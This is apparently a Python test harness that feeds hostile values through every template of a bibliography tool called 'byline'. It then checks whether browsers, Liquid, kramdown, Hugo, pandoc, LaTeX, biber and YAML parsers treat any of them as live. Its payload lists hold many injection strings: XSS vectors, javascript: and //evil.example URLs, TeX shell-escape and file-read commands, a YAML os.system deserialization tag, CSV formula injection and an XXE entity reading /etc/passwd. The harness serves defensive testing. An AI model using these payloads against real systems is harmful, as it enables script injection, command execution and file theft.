#!/usr/bin/env python3
"""Hostile values in every field, through every built-in template, read by the programs that will read them.

`hostile.py BYLINE FOLDER` writes a work for each value, renders every template, and asks Chromium's DOM,
Liquid, kramdown, Hugo, pandoc (as Quarto does), a tokenizer of TeX, pdfLaTeX with a shell, biber, xmllint,
PyYAML, Psych and Python's csv and json what they see. It
prints how many pairs of value and template were read and what is alive among them, and fails on any.
"""
import csv, io, json, re, subprocess, sys, xml.etree.ElementTree, zipfile
from pathlib import Path

BYLINE, FOLDER = Path(sys.argv[1]).resolve(), Path(sys.argv[2]).resolve()

JS = "document.title='LIVE'"
HTML = [
    f"<script>{JS}</script>", f"<img src=x onerror={JS}>", f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>",
    f"text <img src=x onerror={JS} y", "text <p title=\"", "text <p title='", "text <!--", "text </", "text <b", "<plaintext>",
    f"<a href=javascript:{JS}>x</a>", f"<a href='java\tscript:{JS}'>x</a>", f"<a href=\"&#106;avascript:{JS}\">x</a>",
    f"<iframe src=javascript:{JS}></iframe>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<form action=//evil><input name=a></form>", f"<details open ontoggle={JS}>x</details>", f"<body onload={JS}>",
    f"</title><script>{JS}</script>", f"</textarea><script>{JS}</script>", f"</style><script>{JS}</script>", f"</script><script>{JS}</script>",
    f"<!--<script>{JS}//-->", f"--><script>{JS}</script>", f"]]><script>{JS}</script>", f"<![CDATA[<script>{JS}</script>]]>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>", f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={JS}>'>", f"<isindex onfocus={JS} autofocus>", f"<input autofocus onfocus={JS}>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<script\x0b>{JS}</script>",
    f"<img/src=x/onerror={JS}>", f"<img src=x onerror\n={JS}>", f"<a\x0chref=javascript:{JS}>x</a>", f"<object data=javascript:{JS}>",
    f"<embed src=javascript:{JS}>", f"<link rel=stylesheet href=//evil>", "<style>@import '//evil'</style>", f"<template><img src=x onerror={JS}></template>",
    f"<b onclick={JS}>x</b>", f"<p style=\"background:url(javascript:{JS})\">x</p>", f"&lt;script&gt;{JS}&lt;/script&gt;", f"&#60;script&#62;{JS}&#60;/script&#62;",
]
QUOTES = [
    f"x' onerror='{JS}", f"x\" onerror=\"{JS}", f"x` onerror=`{JS}", f"' autofocus onfocus={JS} x='", f"\" autofocus onfocus={JS} x=\"",
    f"x'><script>{JS}</script>", f"x\"><script>{JS}</script>", "'", "\"", "\"'", "\\\"", "\\'", f"&quot; onload=&quot;{JS}", f"&#39; onload=&#39;{JS}",
]
URLS = [
    f"javascript:{JS}", f"JavaScript:{JS}", f" javascript:{JS}", f"\x01javascript:{JS}", f"java\tscript:{JS}", f"java\nscript:{JS}", f"javascript&colon;{JS}",
    f"&#106;avascript:{JS}", f"&#x6a;avascript&#58;{JS}", f"java&Tab;script:{JS}", f"java&NewLine;script&colon;{JS}", f"vbscript:{JS}",
    f"data:text/html,<script>{JS}</script>", f"data:text/html;base64,PHNjcmlwdD4=", f"https://x.example/\"><script>{JS}</script>",
    f"https://x.example/'><script>{JS}</script>", "https://x.example/) [x](javascript:alert(1)", "https://x.example/\n\n<script>", "//evil.example/x",
    f"javascript://x.example/%0a{JS}", "file:///etc/passwd", "blob:https://x.example/1", f"https://x.example/#{{}}%0a", "https://x.example/ onclick=x",
    f"javascript:/*{JS}*/", f"feed:javascript:{JS}", f"view-source:javascript:{JS}", f"about:blank", "https://x.example/\\\"onload=1", "",
]
MARKDOWN = [
    f"[x](javascript:{JS})", f"[x](<javascript:{JS}>)", f"![x](javascript:{JS})", f"[x]: javascript:{JS}", f"<javascript:{JS}>", f"[x][y]\n\n[y]: javascript:{JS}",
    f"{{: onclick=\"{JS}\"}}", f"x{{: onclick=\"{JS}\"}}", f"*x*{{:onclick=\"{JS}\"}}", f"{{::nomarkdown}}<script>{JS}</script>{{:/}}", "{::options parse_block_html=\"true\" /}",
    "{::comment}", "*[HTML]: x", "[^1]: x", "# heading {#id onclick=x}", "~~~\n</code><script>", "```\n</code><script>", "`</code><script>`", "    code", "> quote\n> <script>",
    "| a | b |\n|---|---|\n| <script> | x |", "1. a\n2. b", "* * *", "---\ntitle: x\n---", "<div markdown=\"1\">", "\\<script>", "\\\\<script>", f"[a\\](javascript:{JS})",
    f"[](javascript:{JS})", "<!-- -->", "<?php x ?>", "[toc]", "{:toc}", "$$\\href{javascript:alert(1)}{x}$$", "a  \nb", "<b>*x*</b>",
]
LIQUID = [
    "{{ site.title }}", "{% raw %}", "{% endraw %}", "{% include x %}", "{% cycle 'LIVE' %}", "{\x7f% cycle 'LIVE' %}", "{\x00{ site.title }}", "{\x85% cycle 'LIVE' %}", "{\u200b{ x }}",
    "{&#123; x }}", "{{{{ x }}}}", "{{{ x }}}", "{%- cycle 'LIVE' -%}", "{{< figure src=x >}}", "{{% ref x %}}", "{{</* x */>}}", "{# x #}", "<% x %>", "<< x >>", "<# x #>", "{\r% cycle 'LIVE' %}",
    "a{", "%cycle 'LIVE'%}", "{", "}}", "%}", "{{", "{%", "{{'x'|append:'LIVE'}}", "{% assign x = 'LIVE' %}{{x}}", "{{ \"LIVE\" }}", "{%comment%}",
]
TEX = [
    "\\input{secret}", "\\include{secret}", "\\immediate\\write18{touch pwned}", "\\write18{touch pwned}", "\\openout1=pwned", "\\openin1=secret", "\\read1 to\\x", "\\csname input\\endcsname{secret}",
    "^^5cinput{secret}", "^^5c^^69nput{secret}", "\\catcode`\\@=0 @input{secret}", "\\def\\x{\\x}\\x", "\\let\\x\\input\\x{secret}", "\\newcommand{\\x}{y}", "\\loop\\iftrue\\repeat", "\\scantokens{\\input{secret}}",
    "\\directlua{os.execute('x')}", "\\special{ps: x}", "\\href{javascript:x}{y}", "\\url{javascript:x}", "\\end{document}", "\\begin{verbatim}", "\\end{itemize}", "\\par", "\\\\", "\\", "{", "}", "{}}{", "%", "$", "$$", "$x", "x$y$z$",
    "&", "#", "#1", "_", "^", "~", "\\(\\input{secret}\\)", "\\[\\input{secret}\\]", "$\\input{secret}$", "$$\\input{secret}$$", "$\\immediate\\write18{touch pwned}$", "$^^5cinput{secret}$", "$\\rm\\input{secret}$",
    "$\\href{javascript:x}{y}$", "$\\require{action}$", "$\\class{x}{y}$", "$\\cssId{x}{y}$", "$\\style{x}{y}$", "$\\unicode{60}$", "$\\text{\\input{secret}}$", "$\\mbox{\\input{secret}}$", "$\\left($", "$\\end{document}$", "$\\par$", "$\\unhbox0$",
    "$\\def\\x{\\x}\\x$", "$\\begin{matrix}$", "$\\end{matrix}$", "$a<b>c$", "$<script>alert(1)</script>$", "$x$ {\\input{secret}} $y$", "\\verb|\\input{secret}|", "\\begingroup\\input{secret}\\endgroup", "\\expandafter\\input secret", "\\ensuremath{\\input{secret}}",
    "\\textbf{\\input{secret}}", "\\footnote{\\input{secret}}", "\\usepackage{x}", "\\makeatletter", "\\hbox{\\input{secret}}", "\\message{x}", "\\show\\x", "\\meaning\\x", "\\jobname", "\\font\\x=secret", "\\pdffiledump{secret}", "\\lowercase{\\input{secret}}",
]
YAML = [
    "yes", "no", "null", "~", "true", "1", "1.0", "0x1f", "0o17", "1e3", "12:30:45", "2024-01-01", ".inf", ".nan", "=", "<<", "!!python/object/apply:os.system ['x']", "!ruby/object:Gem::Installer", "&a x", "*a", "- x", "? x", ": x", "x: y", "x:", "#x", "x #y",
    "'", "\"", "'x", "\"x", "|", ">", "%YAML 1.1", "---", "...", "--- x", "@x", "`x`", "[x", "]", "{x", "}", ",", "\\x", "\u2028x", "\u2029x", "\x85x", "\ufeffx", "\ufffex", "\uffff", "\U0001ffff", "x\ny", "x\n---\ny", "x\n...\ny", "x\n- y", "\tx", " x", "x ", "!x", "!!str x", "",
]
OTHER = [
    "=HYPERLINK(\"//evil\")", "+1+1", "-1-1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "x\r\nER  - \r\nTY  - JOUR", "x\nTY  - JOUR", "x\n\nTI  - y", "x\u2028ER  - ", "]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "&x;", "<?xml?>",
    "\x00", "\x1b[31m", "\x9b31m", "\x07", "\u202ex", "\u2066x", "\u200bx", "#eval(\"1\")", "#include \"secret\"", "#read(\"secret\")", "#link(\"javascript:x\")[y]", "#raw(x)", "$#eval(x)$", "*x* _y_ `z`", "@ref", "<label>", "// x", "/* x", "= x", "#let x = 1", "#show: x",
    "% byline:end r", "<!-- byline:end r -->", "# byline:begin r", "byline:end", "../../etc/passwd", "/etc/passwd", "..", "a\x00b", "CON", "x" * 300, "}, evil = {x", "} @article{evil, title={x}", "\", evil=\"x", "@comment{x", "@preamble{\"\\input{secret}\"}", "a and b and others", "{x} and {y", "x,y,z,w",
    "{\"a\":1}", "\\u003cscript\\u003e", "\\\"", "</script>", "\u2028", "${x}", "<%= x %>", "#{x}", "${{ x }}", "::error::x", "%0A::error::x", "%2e%2e/", "%00", "\ud7ff", "é" * 40, "漢字 <b>", "a\u0300" * 20,
]
VALUES = list(dict.fromkeys(HTML + QUOTES + URLS + MARKDOWN + LIQUID + TEX + YAML + OTHER))
FIELDS = ["title", "subtitle", "venue", "url", "pdf", "code", "slides", "video", "website", "poster", "preview", "summary", "abstract", "note", "keywords", "genre", "category", "abbr", "volume", "number",
          "pages", "doi", "arxiv", "isbn", "publisher", "place", "address", "series", "edition", "status", "acceptance", "guid", "reading-time", "language", "event", "institution", "additional_info", "annotation",
          "award_name", "altmetric", "dimensions", "google_scholar_id", "homepage", "slug", "type_", "month"]


def work(at, value):
    """A work with `value` in every field."""
    fields = {name: value for name in FIELDS}
    return {"key": f"k{at}", "type": ["article", "inproceedings", "talk", "blog", "book"][at % 5], "date": "2024-02-03",
            "authors": ["Ann Me", value or "x", {"name": "Bo Co", "url": value, "affiliation": value}], **fields,
            "tags": [value], "awards": [value], "links": {"lab": value, (value or "x"): "https://x.example/"}, "version-of": value, "ids": [value]}


def benign(at):
    return work(at, "plain")


def forms(at, value):
    """The same value written as HTML and as TeX, where texts may be."""
    base = {"type": "article", "authors": ["Ann Me"], "date": "2024", "venue": "J"}
    return [{**base, "key": f"h{at}", "title": {"html": value}, "abstract": {"html": value}}, {**base, "key": f"t{at}", "title": {"tex": value}, "abstract": {"tex": value}},
            {**base, "key": f"m{at}", "title": {"markdown": value}, "abstract": {"markdown": value}}]


def source(name, works, value="plain"):
    people = {"ann": {"name": "Ann Me", "url": value, "role": value, "photo": value}}
    path = FOLDER / name
    path.write_text(json.dumps({"people": people, "topics": {"t": {"title": value, "tags": [value], "description": value}}, "works": works}, ensure_ascii=True), encoding="utf-8")
    return path


def templates():
    listed = subprocess.run([BYLINE, "templates", "list"], capture_output=True, text=True, cwd=FOLDER, check=True).stdout
    return [line.split()[0].removesuffix(".jinja").rsplit(".", 1) for line in listed.splitlines()]


def render(name, ending, path):
    command = [BYLINE, "render", name, path, "--target", ending, "--self", "Ann Me"]
    if ending == "docx":
        ran = subprocess.run([*command, "-o", "out.docx"], capture_output=True, cwd=FOLDER)
        with zipfile.ZipFile(FOLDER / "out.docx") as document:
            return document.read("word/document.xml").decode("utf-8"), ran.stderr.decode("utf-8")
    ran = subprocess.run(command, capture_output=True, cwd=FOLDER)
    return ran.stdout.decode("utf-8"), ran.stderr.decode("utf-8")


ALIVE = []


def alive(template, what):
    ALIVE.append(f"{template}: {what}")


FORBIDDEN = set("input include read write openout openin immediate special csname catcode def let newcommand renewcommand loop scantokens directlua require class cssId style unicode endcsname expandafter gdef edef "
                "usepackage makeatletter meaning show message font pdffiledump lowercase uppercase jobname unhbox begingroup verb".split())


def tex_tokens(text):
    """The control sequences of TeX in `text`, as its eyes see them: comments are skipped, `\\x` is one token."""
    at = 0
    while at < len(text):
        char = text[at]
        if char == "\\":
            word = re.compile(r"[A-Za-z@]+|.", re.S).match(text, at + 1)
            yield word.group(0) if word else ""
            at = word.end() if word else at + 1
        elif char == "%":
            at = (text.find("\n", at) + 1) or len(text)
        else:
            if text.startswith("^^", at):
                yield "^^"
            at += 1


def check_tex(template, text, allowed):
    # What BibTeX keeps for others is never typeset.
    text = re.sub(r"(?m)^  (links|file) = .*$", "", text)
    for token in set(tex_tokens(text)) - allowed:
        if token in FORBIDDEN or token == "^^":
            alive(template, f"TeX would run \\{token}")
    # TeX does not count an escaped brace, BibTeX does.
    depth, braces = 0, text if ".bib" in template else re.sub(r"\\.", "", text, flags=re.S)
    for char in braces:
        depth += (char == "{") - (char == "}")
        if depth < 0:
            return alive(template, "a brace closes what it did not open")
    if depth:
        alive(template, "a brace stays open")


RUBY = r"""
require 'json'; require 'liquid'; require 'kramdown'; require 'yaml'
jobs = JSON.parse(STDIN.read)
out = jobs.map do |job|
  text = job['text']
  case job['as']
  when 'liquid'
    begin
      shown = Liquid::Template.parse(text, error_mode: :lax).render({'site' => {'title' => 'LIVE'}, 'x' => 'LIVE'})
      shown == text ? '' : 'Liquid changes it'
    rescue StandardError => error
      "Liquid stops: #{error.message[0, 200]}"
    end
  when 'kramdown'
    Kramdown::Document.new(text, input: job['parser'] || 'Kramdown').to_html
  when 'yaml'
    begin
      YAML.safe_load(text, permitted_classes: [Date, Time], aliases: false); ''
    rescue StandardError, Psych::Exception => error
      "Psych: #{error.message[0, 200]}"
    end
  end
end
puts JSON.generate(out)
"""

PROBE = r"""<!doctype html><meta charset=utf-8><title>x</title><pre id=out></pre><script id=data type=application/json>DATA</script><script>
const dangerous = /^(javascript|vbscript|data|blob|file):/i;
const commands = /\\(href|url|input|include|require|class|cssId|style|unicode|def|let|newcommand|write|immediate|csname|catcode|loop|scantokens)(?![A-Za-z])/;
const out = [];
for (const html of JSON.parse(document.getElementById('data').textContent)) {
  const page = new DOMParser().parseFromString(html, 'text/html');
  const seen = [];
  let scripts = 0, other = 0;
  for (const one of page.querySelectorAll('*')) {
    const name = one.localName;
    if (name === 'script') scripts++;
    if (['iframe','object','embed','form','base','frame','frameset','portal','plaintext','svg','foreignobject','input','textarea','button','select'].includes(name)) other++;
    for (const {name: key, value} of one.attributes) {
      if (/^on/i.test(key)) seen.push(name + ' ' + key);
      if (['href','src','action','formaction','data','xlink:href','poster','srcset','cite','background'].includes(key.toLowerCase()) && dangerous.test(value.replace(/[\s\x00-\x1f]/g, ''))) seen.push(name + ' ' + key + '=' + value.slice(0, 60));
    }
  }
  const walker = page.createTreeWalker(page.documentElement, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const node = walker.currentNode, found = commands.exec(node.data);
    if (found && !node.parentElement.closest('code,pre,script,style,textarea,noscript,annotation')) seen.push('MathJax: ' + node.data.slice(Math.max(0, found.index - 20), found.index + 30));
  }
  out.push({seen, scripts, other, works: page.querySelectorAll('li').length});
}
document.getElementById('out').textContent = 'RESULT' + btoa(unescape(encodeURIComponent(JSON.stringify(out)))) + 'END';
</script>"""


def ruby(jobs):
    ran = subprocess.run(["ruby", "-e", RUBY], input=json.dumps(jobs), capture_output=True, text=True)
    if ran.returncode:
        sys.exit(f"ruby: {ran.stderr[-2000:]}")
    return json.loads(ran.stdout)


def dom(pages):
    data = json.dumps(pages).replace("<", "\\u003c")
    probe = FOLDER / "probe.html"
    probe.write_text(PROBE.replace("DATA", data), encoding="utf-8")
    ran = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={FOLDER}/profile", "--virtual-time-budget=20000", "--dump-dom", probe.as_uri()], capture_output=True, text=True)
    found = re.search(r"RESULT([A-Za-z0-9+/=]*)END", ran.stdout)
    if not found:
        sys.exit(f"chromium: {ran.stderr[-2000:]}")
    import base64
    return json.loads(base64.b64decode(found.group(1)))


def check_docx(label, text, base):
    """A value is characters in runs: it makes no paragraph, no element that a calm list has not, and no field but a link."""
    try:
        found, calm = (xml.etree.ElementTree.fromstring(one) for one in (text, base))
    except xml.etree.ElementTree.ParseError as error:
        return alive(label, str(error))
    space = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    marks = {f"{space}{name}" for name in ("r", "rPr", "t", "br", "b", "i", "u", "smallCaps", "vertAlign", "rFonts", "rStyle", "fldChar", "instrText")}
    for name in {one.tag for one in found.iter()} - {one.tag for one in calm.iter()} - marks:
        alive(label, f"an element {name}")
    if len(list(found.iter(f"{space}p"))) != len(list(calm.iter(f"{space}p"))):
        alive(label, "a paragraph more or less than works")
    for code in found.iter(f"{space}instrText"):
        if not re.fullmatch(r'(?i) HYPERLINK "(?!(?!https?:|ftp:|mailto:|feed:(//|https?:))[a-z][a-z0-9+.-]*:)[^"\\]+" ', code.text or ""):
            alive(label, f"a field: {code.text}")


def main():
    FOLDER.mkdir(parents=True, exist_ok=True)
    hostile = [work(at, value) for at, value in enumerate(VALUES)]
    formed = [one for at, value in enumerate(VALUES) for one in forms(at, value)]
    sources = {"fields": (source("hostile.json", hostile), len(hostile)), "forms": (source("forms.json", formed), len(formed))}
    # One page a value in the two that have such values at the top: the owner's and the topic's.
    calm = source("calm.json", [benign(at) for at in range(len(hostile))])
    calm_forms = source("calm-forms.json", [one for at in range(len(VALUES)) for one in forms(at, "plain")])
    pairs, rubies, pages, read = 0, [], [], {"hugo.md", "hugoblox.md", *(f"{name}.{ending}" for name, ending in SINGLE)}
    for name, ending in templates():
        for kind, (path, count) in sources.items():
            label = f"{name}.{ending} ({kind})"
            text, said = render(name, ending, path)
            base, _ = render(name, ending, calm if kind == "fields" else calm_forms)
            if not text.strip():
                if base.strip():
                    alive(label, f"nothing was written: {said[:300]}")
                continue
            read.add(f"{name}.{ending}")
            pairs += count
            if ending in ("md", "qmd", "html"):
                if name != "head":
                    rubies.append((label, "check", {"as": "liquid", "text": text}))
                if ending == "html":
                    pages.append((label, text, base))
                else:
                    for parser in ("Kramdown", "GFM"):
                        rubies.append((f"{label} {parser}", "page", {"as": "kramdown", "parser": parser, "text": body(text)}, {"as": "kramdown", "parser": parser, "text": body(base)}))
                    check_front(label, text, rubies)
            elif ending in ("tex", "bib"):
                check_tex(label, text, set(tex_tokens(base)))
                if ending == "bib" and len(re.findall(r"(?m)^@", text)) != len(re.findall(r"(?m)^@", base)):
                    alive(label, "an entry more or less than works")
                if ending == "bib":
                    biber(label, text)
            elif ending == "xml":
                ran = subprocess.run(["xmllint", "--noout", "-"], input=text.encode(), capture_output=True)
                if ran.returncode:
                    alive(label, ran.stderr.decode()[:300])
                rss(label, text, pages)
            elif ending == "docx":
                check_docx(label, text, base)
            elif ending in ("yml", "yaml", "cff"):
                check_yaml(label, text, rubies)
            elif ending == "json":
                json.loads(text)
            elif ending == "csv":
                for row in csv.reader(io.StringIO(text)):
                    for cell in row:
                        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                            alive(label, f"a formula: {cell[:60]}")
            elif ending == "ris" and len(re.findall(r"(?m)^TY  - ", text)) != len(re.findall(r"(?m)^ER  - ", text)):
                alive(label, "records of RIS do not pair up")
    pairs += hugo(hostile, formed, pages)
    pairs += one_by_one(hostile, formed, rubies, pages)
    latex()
    jobs = [job for row in rubies for job in row[2:]]
    answers = iter(ruby(jobs))
    for row in rubies:
        got = [next(answers) for _ in row[2:]]
        if row[1] == "page":
            pages.append((row[0], got[0], got[1]))
        elif got[0]:
            alive(row[0], got[0])
    seen = dom([page for _, text, base in pages for page in (text, base)])
    for at, (label, *_rest) in enumerate(pages):
        found, calm_found = seen[2 * at], seen[2 * at + 1]
        for one in found["seen"][:5]:
            alive(label, one)
        for kind in ("scripts", "other"):
            if found[kind] > calm_found[kind]:
                alive(label, f"{found[kind]} {kind}, not {calm_found[kind]}")
    print(f"{len(VALUES)} values, {len(read)} templates, {pairs} pairs, {len(ALIVE)} alive")
    for one in ALIVE[:200]:
        print("ALIVE", one)
    sys.exit(1 if ALIVE else 0)


def hugo(hostile, formed, pages):
    """Every work as a page of Hugo, which here lets HTML through and runs summaries as Markdown."""
    site, count = FOLDER / "hugo", 0
    for name in ("layouts/_default",):
        (site / name).mkdir(parents=True, exist_ok=True)
    (site / "hugo.toml").write_text('baseURL = "https://x.example/"\ntitle = "T"\n[markup.goldmark.renderer]\nunsafe = true\n')
    (site / "config.toml").write_text((site / "hugo.toml").read_text())
    shown = "<title>{{ .Title }}</title><h1 title=\"{{ .Title }}\">{{ .Title }}</h1><p>{{ .Summary }}</p>{{ .Content }}{{ with .Params.image }}<img src=\"{{ .filename }}\">{{ end }}"
    (site / "layouts/_default/single.html").write_text(shown)
    (site / "layouts/_default/list.html").write_text("list")
    for kind, works in (("fields", hostile), ("forms", formed)):
        # The slug is the owner's, not the source's: each page needs one.
        works = [{**one, "slug": one["key"]} for one in works]
        (site / f"{kind}.json").write_text(json.dumps({"works": works}))
    config = "self: {name: Ann Me}\nsite: {markdown: goldmark}\nsources: [fields.json, forms.json]\noutputs:\n"
    for name, file in (("hugo", "content/{0}/{{{{ work.slug }}}}.md"), ("hugoblox", "content/{0}/{{{{ work.slug }}}}/index.md")):
        config += f"- {{to: '{file.format(name)}', each: work, template: {name}}}\n"
    (site / "byline.yaml").write_text(config)
    built = subprocess.run([BYLINE, "build", "--keep-going"], cwd=site, capture_output=True, text=True)
    written = list(site.glob("content/**/*.md"))
    if len(written) < 2 * len(formed):
        alive("hugo", f"only {len(written)} pages: {built.stderr[-500:]}")
    made = subprocess.run(["hugo", "--quiet", "--destination", "out"], cwd=site, capture_output=True, text=True)
    if made.returncode:
        alive("hugo", made.stderr[-500:] + made.stdout[-500:])
    for path in sorted(site.glob("out/hugo*/*/index.html")):
        pages.append((f"hugo {path.parent.parent.name}/{path.parent.name}", path.read_text(encoding="utf-8", errors="replace"), ""))
        count += 1
    return count


# Templates of one work, and what their themes print as it is of the front matter.
SINGLE = [("academicpages", "md"), ("academicpages-talk", "md"), ("quarto-page", "qmd")]
RAW = ["paperurl", "slidesurl", "bibtexurl", "type", "venue", "location", "citation", "category"]


def one_by_one(hostile, formed, rubies, pages):
    """Every work as a page of its own: its front matter as YAML, and in a page of its theme; its body."""
    import yaml
    site, count = FOLDER / "single", 0
    site.mkdir(parents=True, exist_ok=True)
    works = [{**one, "slug": one["key"]} for one in hostile + formed]
    (site / "works.json").write_text(json.dumps({"works": works}))
    outputs = "".join(f"- {{to: '{name}/{{{{ work.slug }}}}.{ending}', each: work, template: {name}}}\n" for name, ending in SINGLE)
    (site / "byline.yaml").write_text("self: {name: Ann Me}\nsources: [works.json]\noutputs:\n" + outputs)
    built = subprocess.run([BYLINE, "build", "--keep-going"], cwd=site, capture_output=True, text=True)
    for name, ending in SINGLE:
        files = sorted((site / name).glob("*"))
        if len(files) < len(formed):
            alive(name, f"only {len(files)} pages: {built.stderr[-500:]}")
        for path in files:
            text, label = path.read_text(encoding="utf-8"), f"{name}/{path.name}"
            front = text.split("\n---\n", 1)[0].removeprefix("---\n")
            check_yaml(f"{label} front matter", front, rubies)
            rubies.append((label, "check", {"as": "liquid", "text": body(text)}))
            if ending == "md":
                rubies.append((label, "page", {"as": "kramdown", "parser": "GFM", "text": body(text)}, {"as": "kramdown", "parser": "GFM", "text": ""}))
                said = yaml.load(front, Loader=yaml.SafeLoader) or {}
                raw = "".join(f'<p>{said[key]}</p><a href="{said[key]}">x</a>' for key in RAW if key.endswith("url") and key in said)
                raw += "".join(f"<p>{said[key]}</p>" for key in RAW if not key.endswith("url") and key in said)
                teaser = (said.get("header") or {}).get("teaser")
                pages.append((f"{label} in the theme", raw + (f'<img src="{teaser}">' if teaser else ""), ""))
            count += 1
        if ending == "qmd":
            quarto(name, files, pages)
    return count


def quarto(name, files, pages):
    """What Quarto makes of the bodies of its pages: it reads them with pandoc, for which dollars are mathematics."""
    bodies = FOLDER / "bodies"
    bodies.mkdir(exist_ok=True)
    for at in range(0, len(files), 100):
        some = files[at:at + 100]
        for path in some:
            (bodies / f"{path.stem}.md").write_text(body(path.read_text(encoding="utf-8")), encoding="utf-8")
        # Each file is read by itself, so that none swallows the next.
        made = subprocess.run(["pandoc", "--file-scope", "--mathjax", "-f", "markdown", "-t", "html", *(f"{path.stem}.md" for path in some)], cwd=bodies, capture_output=True, text=True)
        if made.returncode:
            alive(name, f"pandoc: {made.stderr[:300]}")
        pages.append((f"{name} {at} in pandoc", made.stdout, ""))


def biber(label, text):
    """What biber makes of a list: it reads all of it."""
    (FOLDER / "list.bib").write_text(text, encoding="utf-8")
    ran = subprocess.run(["biber", "--tool", "--quiet", "--output-file", "made.bib", "list.bib"], cwd=FOLDER, capture_output=True, text=True)
    # biber 2.18 counts the commas within braces of a name, which BibTeX does not, and skips that entry.
    errors = [line for line in ran.stdout.splitlines() if "ERROR" in line and "too many commas" not in line]
    if ran.returncode < 0 or errors:
        alive(label, f"biber: {ran.stdout[:300]}{ran.stderr[:300]}")


def latex():
    """A CV of all values, set with a shell at hand and a secret beside it."""
    (FOLDER / "secret.tex").write_text("HIDDENWORDS")
    # pdfLaTeX has few letters, and stops at a hundred errors: the values that run are all ASCII.
    plain = [value for value in VALUES if value.isascii() and value.isprintable()]
    sources = {"fields": source("latex.json", [work(at, value) for at, value in enumerate(plain)]),
               "forms": source("latex-forms.json", [one for at, value in enumerate(plain) for one in forms(at, value)])}
    for kind, path in sources.items():
        (FOLDER / "cv.tex").write_text(render("cv", "tex", path)[0], encoding="utf-8")
        (FOLDER / "main.tex").write_text("\\documentclass{article}\\begin{document}\\input{cv}\\end{document}")
        subprocess.run(["pdflatex", "-shell-escape", "-interaction=nonstopmode", "main.tex"], cwd=FOLDER, capture_output=True, timeout=300)
        log = (FOLDER / "main.log").read_text(errors="replace").replace("\n", "")
        if not (FOLDER / "main.pdf").exists():
            alive(f"pdflatex ({kind})", "no PDF: " + log[-500:])
        if "(./secret.tex" in log or (FOLDER / "pwned").exists():
            alive(f"pdflatex ({kind})", "a value read a file or ran a command")
        (FOLDER / "main.pdf").unlink(missing_ok=True)


def body(text):
    found = re.match(r"---\n.*?\n---\n", text, re.S)
    return text[found.end():] if found else text


def check_front(label, text, rubies):
    for front in re.findall(r"(?ms)^---\n(.*?)\n---$", text)[:1]:
        check_yaml(f"{label} front matter", front, rubies)


def check_yaml(label, text, rubies):
    import yaml
    try:
        yaml.load(text, Loader=yaml.SafeLoader)
    except yaml.YAMLError as error:
        alive(label, f"PyYAML: {str(error)[:300]}")
    rubies.append((label, "check", {"as": "yaml", "text": text}))


def rss(label, text, pages):
    """What a reader of feeds puts into its page: the descriptions."""
    import xml.etree.ElementTree as tree
    found = [one.text or "" for one in tree.fromstring(text.encode()).iter() if one.tag.split("}")[-1] in ("description", "summary", "content") and (one.get("type", "html") == "html")]
    pages.append((label, "<div>" + "</div><div>".join(found) + "</div>", ""))


main()
